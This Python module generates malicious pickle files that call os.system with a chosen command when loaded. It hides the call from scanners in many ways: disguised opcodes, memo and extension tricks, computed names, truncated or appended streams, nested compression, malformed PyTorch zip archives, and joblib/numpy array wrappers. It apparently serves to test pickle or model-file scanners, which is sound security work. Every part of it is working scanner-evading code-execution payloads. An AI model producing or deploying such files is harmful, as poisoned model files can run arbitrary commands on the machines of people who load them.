"""Pickles and archives of pickles that hide a call of ``os.system`` from scanners."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import pickle
import struct
import zipfile
import zlib

import joblib
import numpy as np

from hostile.assembler import call, name, number, pickled, several, table, text

SYSTEM = name("posix", "system")
LOOKUP = name("builtins", "getattr")


def payload(command: str) -> bytes:
    """The plain call, in protocol 4."""
    return pickled(call(SYSTEM, text(command)))


def plain(command: str) -> bytes:
    """The plain call, in protocol 0."""
    return b"cposix\nsystem\n(S'" + command.encode() + b"'\ntR."


def zipped(content: bytes, **replacements: tuple[int, bytes]) -> bytes:
    """A PyTorch zip with the content, and replaced bytes in a member header, the directory or the end record."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/version", b"3")
    data = bytearray(file.getvalue())
    directory, end = data.index(b"PK\x01\x02"), data.index(b"PK\x05\x06")
    for part, (offset, replacement) in replacements.items():
        start = {"member": 0, "directory": directory, "end": end}[part]
        data[start + offset : start + offset + len(replacement)] = replacement
    return bytes(data)


def wrapped(**state: tuple[bytes, bytes]) -> bytes:
    """A joblib file with an array, in which parts of the array's state are replaced."""
    file = io.BytesIO()
    joblib.dump([np.arange(100.0), "end"], file)
    data = file.getvalue()
    for before, after in state.values():
        assert before in data
        data = data.replace(before, after, 1)
    return data


def array_in_joblib(content: bytes) -> bytes:
    """A joblib file with an array of bytes without padding, as written by joblib up to 1.1."""
    wrapper = name("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81"
    dtype = call(name("numpy", "dtype"), text("u1"), b"\x89", b"\x88")
    dtype += several(number(3), text("|"), b"N", b"N", b"N", number(-1), number(-1), number(0)) + b"b"
    shape = several(number(len(content)))
    state = table(subclass=name("numpy", "ndarray"), shape=shape, dtype=dtype)
    return b"\x80\x04" + wrapper + state + b"b" + content + b"."


def named_files(command: str) -> dict[str, bytes]:
    """Disguised files in which the call can be found."""
    hidden, simple, argument = payload(command), plain(command), text(command)
    archive = zipped(hidden)
    return {
        "a call": hidden,
        "protocol 0": simple,
        "INST": b"(S'" + command.encode() + b"'\niposix\nsystem\n.",
        "OBJ": b"(cposix\nsystem\nS'" + command.encode() + b"'\no.",
        "escaped texts": b"S'p\\x6fsix'\nS'syst\\x65m'\n\x93(S'" + command.encode() + b"'\ntR.",
        "names from the memo": pickled(
            text("posix"), b"\x94", text("system"), b"\x940h\x00h\x01\x93", argument, b"\x85R"
        ),
        "an overwritten memo": pickled(text("collections"), b"q\x05", SYSTEM, b"q\x050h\x05", argument, b"\x85R"),
        "two ways to fill the memo": pickled(
            *(text("posix"), b"q\x00", text("system"), b"q\x01", text("torch._utils"), b"\x94"),
            *(text("_rebuild_tensor_v2"), b"\x94h\x00h\x01\x93", argument, b"\x85R"),
        ),
        "a far memo": pickled(SYSTEM, b"r\xff\xff\x0f\x000j\xff\xff\x0f\x00", argument, b"\x85R"),
        "Python 2's name": b"\x80\x02c__builtin__\neval\n(" + text(f"__import__('os').system({command!r})") + b"tR.",
        "after the payload it is cut off": hidden[:-1],
        "after the payload it is broken": hidden[:-1] + b"\xff\xff",
        "behind another pickle": pickle.dumps({"a": 1}) + hidden,
        "behind joblib's arrays": wrapped() + hidden,
        "in a partial": pickled(name("functools", "partial"), SYSTEM, argument, b"\x86R)R"),
        "through a frame's end": b"\x80\x04\x95" + struct.pack("<Q", 3) + b"cposix\nsystem\n(" + argument + b"tR.",
        "behind texts of Python 2": b"S'\\xe9'\n0" + simple,
        "behind texts of Python 2, like safetensors": b'\x80\x04U\x06\xe9123{"0' + simple,
        "in an array, for whoever reads it as a pickle": array_in_joblib(b"0N" + simple),
        "far in an array": array_in_joblib(b"N0" * 5000 + simple),
        "gzip": gzip.compress(hidden),
        "zlib": zlib.compress(hidden),
        "bzip2": bz2.compress(hidden),
        "xz": lzma.compress(hidden),
        "lzma": lzma.compress(hidden, lzma.FORMAT_ALONE),
        "gzip, cut off": gzip.compress(hidden)[:-4],
        "gzip, twice": gzip.compress(gzip.compress(hidden)),
        "gzip, the second member": gzip.compress(pickle.dumps([1])) + gzip.compress(hidden),
        "gzip, and something else": gzip.compress(hidden) + b"something else",
        "zip": archive,
        "zip, without a directory": archive[: archive.index(b"PK\x01\x02")],
        "zip, with a directory elsewhere": zipped(hidden, end=(16, b"\xff\xff\0\0")),
        "zip, said to be encrypted": zipped(hidden, directory=(8, b"\x01")),
        "zip, member said to be encrypted": zipped(hidden, member=(6, b"\x01")),
        "zip, with a wrong checksum": zipped(hidden, directory=(16, bytes(4)), member=(14, bytes(4))),
        "zip, with an unknown compression": zipped(hidden, directory=(10, b"\x63\0")),
        "zip, with two compressions": zipped(hidden, member=(8, b"\0\0")),
        "zip, with two sizes": zipped(hidden, directory=(20, b"\x03\0\0\0")),
        "zip, behind a picture": b"GIF89a" + archive,
        "zip, before something else": archive + b"x" * 100,
        "zip, in a zip": zipped(archive),
    }


def computed_name_files(command: str) -> dict[str, bytes]:
    """Files in which the call cannot be found from the imported names alone."""
    argument = text(command)
    extension = call(name("copyreg", "add_extension"), text("posix"), text("system"), number(1))
    return {
        "a computed name": pickled(
            call(name("builtins", "str"), text("posix")), text("system"), b"\x93", argument, b"\x85R"
        ),
        "an extension code that the file registers": pickled(extension, b"0\x82\x01", argument, b"\x85R"),
        "a name in an attribute of a function": pickled(
            *(name("numpy", "prod"), b"N", table(a=text("posix"), b=text("system")), b"\x86b0"),
            *(name("numpy", "prod.a"), name("numpy", "prod.b"), b"\x93", argument, b"\x85R"),
        ),
    }
